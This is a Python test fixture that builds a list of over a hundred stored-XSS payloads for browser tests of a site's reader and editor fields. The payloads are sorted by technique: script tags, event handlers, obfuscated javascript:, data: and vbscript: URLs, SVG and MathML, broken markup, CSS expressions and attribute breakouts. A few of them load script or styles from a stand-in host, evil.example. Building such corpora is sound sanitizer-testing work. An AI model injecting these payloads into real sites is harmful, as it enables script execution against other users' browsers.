"""
Stored-XSS payloads posted into every field a reader or an editor writes.

Each payload, if it ran, would call ``window.__xss(N)`` or ``alert(N)`` or
``console.log('XSS')``; the browser tests watch for all three. The corpus covers
script tags in every case and shape, event-handler attributes, javascript:,
data: and vbscript: URLs hidden with entities, whitespace and control
characters, SVG and MathML, broken and nested markup, CSS expressions,
attribute breakouts, template and comment tricks.
"""

_SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<ScRiPt>alert(3)</sCrIpT>",
    "<script >alert(4)</script >",
    "<script\n>alert(5)</script\n>",
    "<script\t>alert(6)</script>",
    "<script/x>alert(7)</script>",
    '<script src="data:text/javascript,alert(8)"></script>',
    "<script src=//evil.example/x.js></script>",
    "<script>alert(10)</script",
    "<script>alert(11)",
    "<scr<script>ipt>alert(12)</scr</script>ipt>",
    "<<script>alert(13);//<</script>",
    "<script type=module>alert(14)</script>",
    '<script type="text/javascript">console.log("XSS")</script>',
    "<script>/*</script><script>*/alert(16)</script>",
    "%3Cscript%3Ealert(17)%3C/script%3E",
    "&lt;script&gt;alert(18)&lt;/script&gt;",
    "<script\x00>alert(19)</script>",
    "\u003cscript\u003ealert(20)\u003c/script\u003e",
]

_EVENT_HANDLERS = [
    "<img src=x onerror=alert(21)>",
    '<img src="x" onerror="alert(22)">',
    "<IMG SRC=x ONERROR=alert(23)>",
    "<img src=x onerror\n=alert(24)>",
    "<img/src=x/onerror=alert(25)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(26)>",
    "<body onload=alert(27)>",
    "<svg onload=alert(28)>",
    "<svg/onload=alert(29)>",
    "<input autofocus onfocus=alert(30)>",
    "<details open ontoggle=alert(31)>",
    "<video><source onerror=alert(32)></video>",
    "<audio src=x onerror=alert(33)>",
    "<iframe onload=alert(34)></iframe>",
    '<div onmouseover="alert(35)">hover</div>',
    '<a href="https://example.com" onclick="alert(36)">click</a>',
    "<p onclick=alert(37)>para</p>",
    "<marquee onstart=alert(38)>x</marquee>",
    "<select autofocus onfocus=alert(39)>",
    "<textarea autofocus onfocus=alert(40)>",
    "<keygen autofocus onfocus=alert(41)>",
    "<object data=x onerror=alert(42)>",
    "<em onmouseover=alert(43)>em</em>",
    "<strong style=x onanimationstart=alert(44)>s</strong>",
    "<blockquote onpointerenter=alert(45)>q</blockquote>",
    "<code oncopy=alert(46)>code</code>",
    "<br onload=alert(47)>",
    '<a href="#" onfocus="alert(48)" autofocus>link</a>',
    "<img src=x:alert(49) onerror=eval(src)>",
    "<img src=1 onerror=window.__xss(50)>",
]

_URL_SCHEMES = [
    '<a href="javascript:alert(51)">js</a>',
    '<a href="JAVASCRIPT:alert(52)">js</a>',
    '<a href="jav&#x09;ascript:alert(53)">tab</a>',
    '<a href="jav&#x0A;ascript:alert(54)">newline</a>',
    '<a href="jav&#x0D;ascript:alert(55)">cr</a>',
    '<a href=" javascript:alert(56)">space</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(57)">dec</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(58)">hex</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058alert(59)">padded</a>',
    '<a href="javascript&colon;alert(60)">colon entity</a>',
    '<a href="java\0script:alert(61)">null</a>',
    '<a href="\x01javascript:alert(62)">control</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2Myk8L3NjcmlwdD4=">data</a>',
    '<a href="data:text/html,<script>alert(64)</script>">data html</a>',
    '<a href="vbscript:msgbox(65)">vb</a>',
    '<a href="VbScRiPt:msgbox(66)">vb case</a>',
    '<img src="javascript:alert(67)">',
    '<img src="data:image/svg+xml,<svg onload=alert(68)>">',
    '<a href="javascript://%0aalert(69)">comment newline</a>',
    '<a href="  &#14;  javascript:alert(70)">leading junk</a>',
    "[click](javascript:alert(71))",
    "javascript:alert(72)",
    '<iframe src="javascript:alert(73)"></iframe>',
    '<form action="javascript:alert(74)"><button>go</button></form>',
    '<blockquote cite="javascript:alert(75)">quoted</blockquote>',
]

_SVG_MATHML = [
    "<svg><script>alert(76)</script></svg>",
    '<svg><a xlink:href="javascript:alert(77)"><text x=20 y=20>svg link</text></a></svg>',
    "<svg><animate onbegin=alert(78) attributeName=x dur=1s>",
    '<svg><set attributeName="onload" to="alert(79)"/></svg>',
    "<svg><foreignObject><img src=x onerror=alert(80)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(81)>",
    '<math><a xlink:href="javascript:alert(82)">math link</a></math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(83)>x</maction></math>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(84)'/></svg>#x\"/></svg>",
    "<svg><style>@import 'javascript:alert(85)';</style></svg>",
]

_BROKEN_NESTED = [
    "<<img src=x onerror=alert(86)//<",
    '<img """><script>alert(87)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(88)>">',
    "<a><a href=javascript:alert(89)>nested</a></a>",
    "<p><svg><p><style><img src=x onerror=alert(90)></style></p></svg></p>",
    "<!--<img src=x onerror=alert(91)>-->",
    "<!--><img src=x onerror=alert(92)>-->",
    "<![CDATA[<img src=x onerror=alert(93)>]]>",
    "<title><img src=x onerror=alert(94)></title>",
    "<textarea></textarea><img src=x onerror=alert(95)>",
    "<style></style><img src=x onerror=alert(96)>",
    "<template><img src=x onerror=alert(97)></template>",
    "<xmp><img src=x onerror=alert(98)></xmp>",
    '<iframe srcdoc="<script>alert(99)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(100)</script>"></object>',
    '<embed src="data:text/html,<script>alert(101)</script>">',
    '<base href="javascript:alert(102)//"><a href=x>base</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(103)">',
    '<link rel=import href="data:text/html,<script>alert(104)</script>">',
    "<form><button formaction=javascript:alert(105)>go</button></form>",
    "<isindex action=javascript:alert(106) type=image>",
    "<div><img src=x onerror=alert(107)</div>",
    '<a href="https://example.com"" onclick=alert(108)>double quote</a>',
    "<a href='https://example.com' ' onmouseover=alert(109)>",
    "<img src=`x` onerror=`alert(110)`>",
]

_CSS = [
    '<div style="width: expression(alert(111))">css</div>',
    '<p style="background:url(javascript:alert(112))">css</p>',
    '<style>body{background:url("javascript:alert(113)")}</style>',
    '<div style="behavior: url(xss.htc)">htc</div>',
    '<span style="-moz-binding:url(http://evil.example/x.xml#xss)">moz</span>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<p style="x:expr/**/ession(alert(117))">comment split</p>',
    '<link rel=stylesheet href="javascript:alert(118)">',
    '<div style="background-image: url(&#1;javascript:alert(119))">entity</div>',
    "<style>*{x:expression(alert(120))}</style>",
]

_BREAKOUTS = [
    '"><script>alert(121)</script>',
    "'><img src=x onerror=alert(122)>",
    '" onmouseover="alert(123)',
    "' autofocus onfocus='alert(124)",
    "</textarea><script>alert(125)</script>",
    "</title><script>alert(126)</script>",
    "</script><script>alert(127)</script>",
    "{{ 7*7 }}{% debug %}<img src=x onerror=alert(128)>",
    "${alert(129)}<img src=x onerror=alert(129)>",
    "\u2028<script>alert(130)</script>\u2029",
    '<a href="https://example.com/\u202e">rtl</a><img src=x onerror=alert(131)>',
    "<img src=x onerror=\"window['al'+'ert'](132)\">",
    '<a href="https://example.com">ok</a><script>window.__xss(133)</script>',
]

XSS_PAYLOADS: list[str] = [
    *_SCRIPT_TAGS,
    *_EVENT_HANDLERS,
    *_URL_SCHEMES,
    *_SVG_MATHML,
    *_BROKEN_NESTED,
    *_CSS,
    *_BREAKOUTS,
]

assert len(XSS_PAYLOADS) >= 100
assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)
